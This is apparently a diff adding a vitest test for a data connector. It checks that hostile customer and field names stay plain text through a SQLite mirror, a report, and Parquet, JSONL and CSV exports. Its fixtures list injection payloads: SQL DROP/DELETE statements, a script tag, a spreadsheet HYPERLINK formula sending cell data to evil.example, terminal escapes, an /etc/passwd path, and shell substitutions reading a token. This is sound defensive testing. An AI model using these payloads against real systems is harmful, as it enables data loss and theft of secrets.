@@ -1,0 +1,65 @@
+import path from "node:path";
+import { expect, onTestFinished, test } from "vitest";
+import { manifest } from "../../connectors/fintoro/manifest.ts";
+import { openMirror, type Mirror } from "../../src/state/mirror.ts";
+import { duckRows, exportOf } from "../support/export.ts";
+import { tempFolder } from "../support/mirror.ts";
+import { publish, reading, rowsOf } from "../support/published.ts";
+import { putAs, rows } from "../support/store.ts";
+
+/** What a customer of the company may be called. */
+const names = [
+  `'); DROP TABLE invoices; --`,
+  `"; DELETE FROM clients; --`,
+  `<script>alert(1)</script>`,
+  `=HYPERLINK("https://evil.example/"&A1)`,
+  `\u001b[2J\u001b]0;title\u0007`,
+  `../../etc/passwd`,
+  `\${env:FINTORO_TOKEN} $(id) \`id\``,
+  `a\u0000b\r\nc`,
+];
+const key = `x"); DROP TABLE invoices; --`;
+
+async function hostileMirror(): Promise<Mirror> {
+  const mirror = await openMirror(path.join(tempFolder(), "acme.db"), manifest);
+  onTestFinished(() => mirror.close());
+  for (const [i, name] of names.entries())
+    putAs(mirror, "clients", i + 1, JSON.stringify({ id: i + 1, name, [key]: name }));
+  putAs(
+    mirror,
+    "invoices",
+    1,
+    JSON.stringify({ id: 1, number: names[0], clientId: 1, items: [{ id: 1, name: key }] }),
+  );
+  return mirror;
+}
+
+const inOrder = "SELECT id, name FROM clients ORDER BY id";
+
+// Fault: data | names and field names that are SQL, HTML, formulas, terminal escapes, paths and shell | records of the service, through mirror, report and every export | text everywhere: nothing of it is executed, and only CSV puts an apostrophe before a formula
+test("whatever a customer is called, it is text: in the mirror, the report and every export", async () => {
+  const mirror = await hostileMirror();
+  const expected = names.map((name, i) => ({ id: i + 1, name }));
+  const [column = ""] = rows(
+    mirror,
+    "SELECT name FROM pragma_table_info('clients') WHERE name LIKE 'x%'",
+  ).map((row) => String(row["name"]));
+  expect(column).toMatch(/^[a-z0-9_]+$/);
+  expect(rows(mirror, inOrder)).toEqual(expected);
+  expect(rows(mirror, `SELECT ${column} AS name FROM clients ORDER BY id`)).toEqual(
+    names.map((name) => ({ name })),
+  );
+  expect(rows(mirror, "SELECT count(*) AS n FROM invoices")).toEqual([{ n: 1 }]);
+  expect(rowsOf(reading((await publish(mirror)).file), inOrder)).toEqual(expected);
+  const { out } = await exportOf(mirror, { format: "parquet", tables: ["clients"] });
+  const inParquet = await duckRows(`SELECT name FROM '${out}/acme/clients.parquet' ORDER BY id`);
+  expect(inParquet).toEqual(names.map((name) => [name]));
+  const jsonl = (await exportOf(mirror, { format: "jsonl", tables: ["clients"] })).text("clients.jsonl");
+  const parsed = jsonl
+    .trimEnd()
+    .split("\n")
+    .map((line) => (JSON.parse(line) as { name: string }).name);
+  expect(parsed).toEqual(names);
+  const csv = (await exportOf(mirror, { tables: ["clients"] })).text("clients.csv");
+  expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`);
+});
